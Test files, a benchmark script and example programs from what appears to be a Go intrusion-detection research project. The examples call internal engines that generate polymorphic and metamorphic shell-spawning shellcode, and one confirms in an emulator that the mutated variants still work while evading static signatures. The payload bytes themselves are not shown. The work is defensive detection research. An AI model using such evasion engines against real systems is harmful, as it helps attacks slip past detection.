		t.Errorf("full template set detected %d/%d", fullHits, n)
	}
	if xorHits != n-alt {
		t.Errorf("xor-only set detected %d, want exactly the %d xor-scheme samples", xorHits, n-alt)
	}
	if alt == 0 {
		t.Error("no alternate-scheme samples drawn (check AltProb)")
	}
}

// TestTable2Clet: every Clet sample is caught by the xor template.
func TestTable2Clet(t *testing.T) {
	payload := shellcode.ClassicPush().Bytes
	eng := polymorph.NewClet(888)
	a := sem.NewAnalyzer(sem.XorOnlyTemplates())
	for i := 0; i < 40; i++ {
		s, _, err := eng.Encode(payload)
		if err != nil {
			t.Fatal(err)
		}
		if !decryptorIn(a.AnalyzeFrame(s)) {
			t.Fatalf("clet sample %d missed", i)
		}
	}
}

// TestTable2IISASP: the iis-asp-overflow decryption routine is found.
func TestTable2IISASP(t *testing.T) {
	found := false
	for _, d := range AnalyzePayload(exploits.IISASPOverflow().Payload) {
		if d.Template == "xor-decrypt-loop" {
			found = true
		}
	}
	if !found {
		t.Fatal("iis-asp-overflow decryptor not detected")
	}
}

// TestTable3CodeRedII: detected instance counts equal planted counts,
// per trace, for a reduced version of the 12 traces.
func TestTable3CodeRedII(t *testing.T) {
	instances := []int{3, 1, 4, 2, 5, 2, 1, 3, 6, 2, 4, 3}
	for i, actual := range instances {
		cfg := core.Config{Classify: classify.Config{
			Honeypots:     []netip.Addr{traffic.HoneypotAddr},
			DarkSpace:     []netip.Prefix{traffic.DarkNet},
			ScanThreshold: 3,
		}}
		n := core.New(cfg)
		for _, p := range traffic.Synthesize(traffic.TraceSpec{
			Seed: int64(100 + i), BenignSessions: 60, CodeRedInstances: actual,
		}) {
			n.ProcessPacket(p)
		}
		n.Flush()
		srcs := map[netip.Addr]bool{}
		for _, a := range n.Alerts() {
			if a.Detection.Template == "code-red-ii" {
				srcs[a.Src] = true
			}
		}
		if len(srcs) != actual {
			t.Errorf("trace %d: detected %d, want %d", i+1, len(srcs), actual)
		}
	}
}

// TestFalsePositiveZero: classification disabled, every payload of a
// benign corpus analyzed, zero alerts.
func TestFalsePositiveZero(t *testing.T) {
	n, err := New(Config{DisableClassification: true})
	if err != nil {
		t.Fatal(err)
	}
	g := traffic.NewGen(4242)
	sessions := 300
	if testing.Short() {
		sessions = 50
	}
	inner := nInner(n)
	for i := 0; i < sessions; i++ {
		for _, p := range g.BenignSession() {
			inner.ProcessPacket(p)
		}
	}
	n.Flush()
	if alerts := n.Alerts(); len(alerts) != 0 {
		t.Fatalf("false positives: %v", alerts)
	}
	if n.Stats().Packets == 0 {
		t.Fatal("no packets processed")
	}
}

func decryptorIn(ds []Detection) bool {
	for _, d := range ds {
		if d.Template == "xor-decrypt-loop" || d.Template == "admmutate-alt-decode-loop" {
			return true
		}
	}
	return false
}

// nInner reaches the core pipeline to feed parsed packets directly
// (test-only; the public API takes frames or pcap streams).
func nInner(n *NIDS) *core.NIDS { return n.inner }
