#!/bin/sh
# bench.sh — run the headline benchmarks and emit BENCH_<date>.json so
# the performance trajectory is trackable PR-over-PR, or compare two
# snapshots benchstat-style.
#
# Usage: scripts/bench.sh [bench-regex] [count]
#        scripts/bench.sh compare OLD.json NEW.json
#
#   bench-regex  benchmarks to run (default: the paper-table and
#                hot-path suite)
#   count        -count passed to go test (default 5)
#
# The JSON is a list of {name, iterations, ns_per_op, bytes_per_op,
# allocs_per_op} records, one per benchmark result line, suitable for
# jq or a dashboard. The raw `go test` output is preserved next to it
# as BENCH_<date>.txt for benchstat. An existing snapshot for the same
# date is never overwritten: a .2/.3/... suffix is added, so old-vs-new
# comparison against the previous snapshot stays possible.
#
# Compare mode joins two snapshot JSONs by benchmark name and prints
# old/new ns_per_op and allocs_per_op with deltas (negative = faster /
# fewer): the quick regression check before committing a perf change.
set -eu

cd "$(dirname "$0")/.."

compare() {
    OLD="$1"
    NEW="$2"
    awk '
    function basename_bench(n) {
        # strip trailing -N GOMAXPROCS suffix go test appends
        sub(/-[0-9]+$/, "", n)
        return n
    }
    /"name"/ {
        line = $0
        gsub(/[",]/, "", line)
        name = ""; ns = ""; allocs = ""
        n = split(line, parts, /[ \t{}]+/)
        for (i = 1; i <= n; i++) {
            if (parts[i] == "name:") name = basename_bench(parts[i+1])
            if (parts[i] == "ns_per_op:") ns = parts[i+1]
            if (parts[i] == "allocs_per_op:") allocs = parts[i+1]
        }
        if (name == "") next
        if (FILENAME == ARGV[1]) {
            # keep the first (usually best-warmed) record per name
            if (!(name in old_ns)) { old_ns[name] = ns; old_al[name] = allocs }
        } else {
            if (!(name in new_ns)) { new_ns[name] = ns; new_al[name] = allocs }
            order[++cnt] = name
        }
    }
    END {
        printf "%-55s %12s %12s %8s %10s %10s %8s\n", "benchmark", "old ns/op", "new ns/op", "delta", "old allocs", "new allocs", "delta"
        for (i = 1; i <= cnt; i++) {
            name = order[i]
            if (seen[name]++) continue
            if (!(name in old_ns)) { printf "%-55s %12s %12s %8s\n", name, "-", new_ns[name], "new"; continue }
            dns = "n/a"
            if (old_ns[name] + 0 > 0) dns = sprintf("%+.1f%%", 100 * (new_ns[name] - old_ns[name]) / old_ns[name])
            dal = "n/a"
            if (old_al[name] != "null" && new_al[name] != "null" && old_al[name] + 0 > 0)
                dal = sprintf("%+.1f%%", 100 * (new_al[name] - old_al[name]) / old_al[name])
            else if (old_al[name] == new_al[name]) dal = "0.0%"
            printf "%-55s %12s %12s %8s %10s %10s %8s\n", name, old_ns[name], new_ns[name], dns, old_al[name], new_al[name], dal
        }
    }
    ' "$OLD" "$NEW"
}

if [ "${1:-}" = "compare" ]; then
    [ $# -eq 3 ] || { echo "usage: scripts/bench.sh compare OLD.json NEW.json" >&2; exit 2; }
    compare "$2" "$3"
    exit 0
fi

REGEX="${1:-Table1|Table2|FalsePositiveScan|AnalyzeFrame|DecodeCached|EngineThroughput|EngineVerdictCache|Correlator}"
COUNT="${2:-5}"
DATE="$(date -u +%Y%m%d)"
BASE="BENCH_${DATE}"
if [ -e "${BASE}.json" ] || [ -e "${BASE}.txt" ]; then
    i=2
    while [ -e "${BASE}.${i}.json" ] || [ -e "${BASE}.${i}.txt" ]; do
        i=$((i + 1))
    done
    BASE="${BASE}.${i}"
fi
TXT="${BASE}.txt"
JSON="${BASE}.json"

go test -run '^$' -bench "$REGEX" -benchmem -count="$COUNT" | tee "$TXT"

awk '
BEGIN { print "[" }
/^Benchmark/ {
    name = $1; iters = $2; ns = $3
    bytes = "null"; allocs = "null"
    for (i = 4; i <= NF; i++) {
        if ($i == "B/op")      bytes = $(i-1)
        if ($i == "allocs/op") allocs = $(i-1)
    }
    if (n++) printf ",\n"
    printf "  {\"name\": \"%s\", \"iterations\": %s, \"ns_per_op\": %s, \"bytes_per_op\": %s, \"allocs_per_op\": %s}", \
        name, iters, ns, bytes, allocs
}
END { if (n) printf "\n"; print "]" }
' "$TXT" > "$JSON"

echo "wrote $TXT and $JSON" >&2
