#!/bin/sh
# bench.sh — run the headline benchmarks and emit BENCH_<date>.json so
# the performance trajectory is trackable PR-over-PR.
#
# Usage: scripts/bench.sh [bench-regex] [count]
#   bench-regex  benchmarks to run (default: the paper-table and
#                hot-path suite)
#   count        -count passed to go test (default 5)
#
# The JSON is a list of {name, iterations, ns_per_op, bytes_per_op,
# allocs_per_op} records, one per benchmark result line, suitable for
# jq or a dashboard. The raw `go test` output is preserved next to it
# as BENCH_<date>.txt for benchstat.
set -eu

cd "$(dirname "$0")/.."

REGEX="${1:-Table1|Table2|FalsePositiveScan|AnalyzeFrame|DecodeCached|EngineThroughput|EngineVerdictCache|Correlator}"
COUNT="${2:-5}"
DATE="$(date -u +%Y%m%d)"
TXT="BENCH_${DATE}.txt"
JSON="BENCH_${DATE}.json"

go test -run '^$' -bench "$REGEX" -benchmem -count="$COUNT" | tee "$TXT"

awk '
BEGIN { print "[" }
/^Benchmark/ {
    name = $1; iters = $2; ns = $3
    bytes = "null"; allocs = "null"
    for (i = 4; i <= NF; i++) {
        if ($i == "B/op")      bytes = $(i-1)
        if ($i == "allocs/op") allocs = $(i-1)
    }
    if (n++) printf ",\n"
    printf "  {\"name\": \"%s\", \"iterations\": %s, \"ns_per_op\": %s, \"bytes_per_op\": %s, \"allocs_per_op\": %s}", \
        name, iters, ns, bytes, allocs
}
END { if (n) printf "\n"; print "]" }
' "$TXT" > "$JSON"

echo "wrote $TXT and $JSON" >&2
