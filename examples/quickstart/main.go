// Quickstart: stand up the semantics-aware NIDS, replay an exploit
// delivery at a honeypot, and print the alerts.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"
	"net/netip"

	nids "semnids"
	"semnids/internal/exploits"
	"semnids/internal/traffic"
)

func main() {
	// 1. Configure the detector: one decoy host and the network's
	//    un-used address space.
	detector, err := nids.New(nids.Config{
		Honeypots:     []string{"192.168.1.250"},
		DarkSpace:     []string{"192.168.2.0/24"},
		ScanThreshold: 3,
		OnAlert: func(a nids.Alert) {
			fmt.Println("ALERT:", a)
		},
	})
	if err != nil {
		log.Fatal(err)
	}

	// 2. Replay traffic. Here we synthesize it: an attacker delivers a
	//    classic shell-spawning buffer overflow to the decoy.
	g := traffic.NewGen(1)
	attacker := netip.MustParseAddr("10.66.66.66")
	exploit := exploits.Table1Exploits()[0]
	for _, pkt := range g.ExploitAtHoneypot(attacker, exploit.DstPort, exploit.Payload) {
		// In a real deployment these frames come from a capture
		// interface or a pcap file (see ProcessPcap).
		if err := detector.ProcessFrame(pkt.Serialize(), pkt.TimestampUS); err != nil {
			log.Printf("frame: %v", err)
		}
	}

	// 3. Flush pending analysis and summarize.
	detector.Flush()
	stats := detector.Stats()
	fmt.Printf("\nprocessed %d packets, analyzed %d frames, %d alerts\n",
		stats.Packets, stats.Frames, stats.Alerts)
	for _, a := range detector.Alerts() {
		fmt.Printf("  %-24s severity=%-8s bindings=%v\n",
			a.Detection.Template, a.Detection.Severity, a.Detection.Bindings)
	}
}
