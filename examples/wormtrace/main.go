// Worm trace analysis: synthesize a production-like trace with benign
// web/DNS/mail background and a known number of Code Red II
// infections, write it to a pcap file, then run the NIDS over the file
// and compare detections against ground truth — the paper's Table 3
// experiment end to end, including the pcap substrate.
//
//	go run ./examples/wormtrace
package main

import (
	"fmt"
	"log"
	"os"
	"path/filepath"

	nids "semnids"
	"semnids/internal/traffic"
)

func main() {
	const instances = 4
	dir, err := os.MkdirTemp("", "semnids-wormtrace")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(dir)
	path := filepath.Join(dir, "trace.pcap")

	// 1. Synthesize and store the trace.
	f, err := os.Create(path)
	if err != nil {
		log.Fatal(err)
	}
	count, err := traffic.WritePcap(f, traffic.TraceSpec{
		Seed:             2006,
		BenignSessions:   1500,
		CodeRedInstances: instances,
	})
	if err != nil {
		log.Fatal(err)
	}
	f.Close()
	fi, _ := os.Stat(path)
	fmt.Printf("trace: %d packets, %.1f MB, %d Code Red II instances planted\n",
		count, float64(fi.Size())/(1<<20), instances)

	// 2. Run the NIDS over the stored trace.
	detector, err := nids.New(nids.Config{
		Honeypots: []string{"192.168.1.250"},
		DarkSpace: []string{"192.168.2.0/24"},
	})
	if err != nil {
		log.Fatal(err)
	}
	in, err := os.Open(path)
	if err != nil {
		log.Fatal(err)
	}
	defer in.Close()
	if err := detector.ProcessPcap(in); err != nil {
		log.Fatal(err)
	}

	// 3. Compare with ground truth.
	sources := map[string]bool{}
	for _, a := range detector.Alerts() {
		if a.Detection.Template == "code-red-ii" {
			sources[a.Src.String()] = true
			fmt.Println("  infected source:", a.Src)
		}
	}
	stats := detector.Stats()
	fmt.Printf("packets=%d selected=%d (%.2f%% of traffic reached deep analysis)\n",
		stats.Packets, stats.Selected, 100*float64(stats.Selected)/float64(stats.Packets))
	fmt.Printf("detected %d/%d Code Red II sources\n", len(sources), instances)
	if len(sources) != instances {
		os.Exit(1)
	}
}
