// Metamorphic triangle: mutate a shell-spawning payload with the
// metamorphic engine, EXECUTE each variant in the emulator to prove it
// still works, show that static signatures lose it, and that the
// semantic templates keep it. Detection that survives working
// metamorphism is the paper's whole thesis, demonstrated dynamically.
//
//	go run ./examples/metamorphic
package main

import (
	"fmt"
	"log"

	nids "semnids"
	"semnids/internal/emu"
	"semnids/internal/morph"
	"semnids/internal/shellcode"
	"semnids/internal/sigmatch"
	"semnids/internal/x86"
)

func main() {
	payload := shellcode.ClassicPush().Bytes
	static := sigmatch.NewMatcher(sigmatch.DefaultSignatures())
	mut := morph.New(2006)
	mut.SubstProb = 1.0
	mut.JunkProb = 0.8

	fmt.Printf("original payload: %d bytes, static signatures: %v\n\n",
		len(payload), static.Match(payload))

	const rounds = 10
	executed, staticHits, semanticHits := 0, 0, 0
	for i := 0; i < rounds; i++ {
		variant, err := mut.Mutate(payload)
		if err != nil {
			log.Fatal(err)
		}

		// 1. Execute: the variant must still spawn the shell.
		m := emu.New(variant)
		stop, err := m.Run(0)
		works := err == nil && stop.Kind == emu.StopSyscall && stop.Sysnum == 0xb
		if works {
			executed++
		}

		// 2. Static signatures.
		specific := 0
		for _, name := range static.Match(variant) {
			if name != "nop-sled" {
				specific++
			}
		}
		if specific > 0 {
			staticHits++
		}

		// 3. Semantic templates.
		detected := false
		for _, d := range nids.AnalyzeBytes(variant) {
			if d.Template == "linux-shell-spawn" {
				detected = true
			}
		}
		if detected {
			semanticHits++
		}

		fmt.Printf("variant %2d: %3d bytes  executes=%v  eax@int80=%#x  static=%d  semantic=%v\n",
			i, len(variant), works, m.Reg(x86.EAX), specific, detected)
		payload = variant // mutate the mutation: generations compound
	}

	fmt.Printf("\nover %d compounding generations:\n", rounds)
	fmt.Printf("  still execute a shell spawn: %d/%d\n", executed, rounds)
	fmt.Printf("  caught by static signatures: %d/%d\n", staticHits, rounds)
	fmt.Printf("  caught by semantic template: %d/%d\n", semanticHits, rounds)
	if executed != rounds || semanticHits != rounds {
		log.Fatal("metamorphic triangle violated")
	}
}
