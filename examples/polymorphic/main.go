// Polymorphic shellcode hunt: generate 100 ADMmutate-style and 100
// Clet-style samples of the same shell-spawning payload, then show
// why static signatures fail where the semantic templates succeed —
// the paper's Table 2 experiment in miniature.
//
//	go run ./examples/polymorphic
package main

import (
	"fmt"
	"log"

	nids "semnids"
	"semnids/internal/polymorph"
	"semnids/internal/shellcode"
	"semnids/internal/sigmatch"
)

func main() {
	payload := shellcode.ClassicPush().Bytes
	static := sigmatch.NewMatcher(sigmatch.DefaultSignatures())

	fmt.Println("cleartext payload:")
	fmt.Printf("  static signatures: %v\n", static.Match(payload))
	fmt.Printf("  semantic analysis: %s\n\n", names(nids.AnalyzeBytes(payload)))

	engines := []struct {
		name   string
		encode func([]byte) ([]byte, polymorph.Meta, error)
	}{
		{"ADMmutate", polymorph.NewADMmutate(7).Encode},
		{"Clet", polymorph.NewClet(7).Encode},
	}
	for _, eng := range engines {
		staticHits, semanticHits := 0, 0
		schemes := map[string]int{}
		for i := 0; i < 100; i++ {
			sample, meta, err := eng.encode(payload)
			if err != nil {
				log.Fatal(err)
			}
			schemes[meta.Scheme.String()]++
			if len(static.Match(sample)) > 0 {
				staticHits++
			}
			for _, d := range nids.AnalyzeBytes(sample) {
				if d.Template == "xor-decrypt-loop" || d.Template == "admmutate-alt-decode-loop" {
					semanticHits++
					break
				}
			}
		}
		fmt.Printf("%s (100 samples, schemes %v):\n", eng.name, schemes)
		fmt.Printf("  static signatures detected:  %3d/100\n", staticHits)
		fmt.Printf("  semantic templates detected: %3d/100\n\n", semanticHits)
	}
}

func names(ds []nids.Detection) []string {
	var out []string
	for _, d := range ds {
		out = append(out, d.Template)
	}
	return out
}
