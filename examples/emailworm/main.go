// Email-worm detection (the paper's Section 6 future work): a mass
// mailer submits a message whose base64 attachment is a packed
// executable carrying a decryption loop. The NIDS reassembles the SMTP
// stream, decodes the MIME attachment, and the same decryption-loop
// template that catches packed viruses on disk fires on the wire.
//
//	go run ./examples/emailworm
package main

import (
	"fmt"
	"log"
	"net/netip"
	"os"

	nids "semnids"
	"semnids/internal/exploits"
	"semnids/internal/report"
	"semnids/internal/traffic"
)

func main() {
	detector, err := nids.New(nids.Config{
		// A mail operator scans all submissions: classification off.
		DisableClassification: true,
	})
	if err != nil {
		log.Fatal(err)
	}

	g := traffic.NewGen(2006)

	// Benign mail first.
	for i := 0; i < 5; i++ {
		for _, p := range g.SMTPSession(g.RandClient()) {
			if err := detector.ProcessFrame(p.Serialize(), p.TimestampUS); err != nil {
				log.Fatal(err)
			}
		}
	}

	// The infected message: a Netsky-like 16 KB packed binary.
	worm := exploits.NetskyBinary(9, 16*1024)
	infected := netip.MustParseAddr("10.200.1.7")
	for _, p := range g.InfectedMailSession(infected, worm) {
		if err := detector.ProcessFrame(p.Serialize(), p.TimestampUS); err != nil {
			log.Fatal(err)
		}
	}
	detector.Flush()

	stats := detector.Stats()
	fmt.Printf("processed %d packets, %d frames analyzed (%d bytes)\n",
		stats.Packets, stats.Frames, stats.FrameBytes)
	fmt.Println("\nincident summary:")
	if err := report.WriteSummary(os.Stdout, detector.Alerts()); err != nil {
		log.Fatal(err)
	}
	for _, a := range detector.Alerts() {
		fmt.Printf("\n%s\n  via %s, bindings %v\n",
			a.Detection.Description, a.FrameSource, a.Detection.Bindings)
	}
	if len(detector.Alerts()) == 0 {
		os.Exit(1)
	}
}
