// Template anatomy: walk the paper's Figure 1 — three syntactically
// different but semantically equivalent decryption routines — through
// the disassembler, the IR's constant folding, and the template
// matcher, printing what each stage sees. This is the "why semantics
// beats syntax" demonstration (Figures 1 and 2 of the paper).
//
//	go run ./examples/templates
package main

import (
	"fmt"

	"semnids/internal/ir"
	"semnids/internal/sem"
	"semnids/internal/x86"
)

func mem8(base x86.Reg) x86.Operand {
	return x86.MemOp(x86.MemRef{Base: base, Size: 1, Scale: 1})
}

func main() {
	variants := []struct {
		name string
		desc string
		code []byte
	}{
		{"figure-1a", "plain xor loop", x86.NewAsm().
			Label("decode").
			I(x86.XOR, mem8(x86.EAX), x86.ImmOp(-0x6b)).
			IncR(x86.EAX).
			Loop("decode").MustBytes()},
		{"figure-1b", "key built in a register, inc replaced by add", x86.NewAsm().
			Label("decode").
			MovRI(x86.EBX, 0x31).
			AddRI(x86.EBX, 0x64).
			I(x86.XOR, mem8(x86.EAX), x86.RegOp(x86.BL)).
			AddRI(x86.EAX, 1).
			Loop("decode").MustBytes()},
		{"figure-1c", "garbage instructions and out-of-order blocks", x86.NewAsm().
			Label("decode").
			MovRI(x86.ECX, 0).IncR(x86.ECX).IncR(x86.ECX).
			JmpShort("one").
			Label("two").AddRI(x86.EAX, 1).JmpShort("three").
			Label("one").MovRI(x86.EBX, 0x31).AddRI(x86.EBX, 0x64).
			I(x86.XOR, mem8(x86.EAX), x86.RegOp(x86.BL)).
			JmpShort("two").
			Label("three").Loop("one").MustBytes()},
	}

	analyzer := sem.NewAnalyzer([]*sem.Template{sem.XorDecryptLoop()})

	for _, v := range variants {
		fmt.Printf("== %s: %s (%d bytes)\n", v.name, v.desc, len(v.code))
		insts := x86.SweepAll(v.code)
		fmt.Println("   disassembly (address order):")
		for _, in := range insts {
			fmt.Printf("     %3d: %v\n", in.Addr, in)
		}
		prog := ir.Lift(insts)
		fmt.Println("   recovered execution order with folded constants:")
		for _, n := range prog.Nodes {
			line := fmt.Sprintf("     %3d: %v", n.Inst.Addr, n.Inst)
			if n.Inst.Op == x86.XOR {
				if key, ok := n.ConstBefore(x86.BL); ok {
					line += fmt.Sprintf("    ; bl == %#x here (folded)", key)
				}
			}
			fmt.Println(line)
		}
		for _, d := range analyzer.AnalyzeFrame(v.code) {
			fmt.Printf("   MATCH %s: bindings %v, matched offsets %v (%s order)\n",
				d.Template, d.Bindings, d.Addrs, d.Order)
		}
		fmt.Println()
	}
	fmt.Println("one template, three encodings: the behavior is identical, the syntax never is.")
}
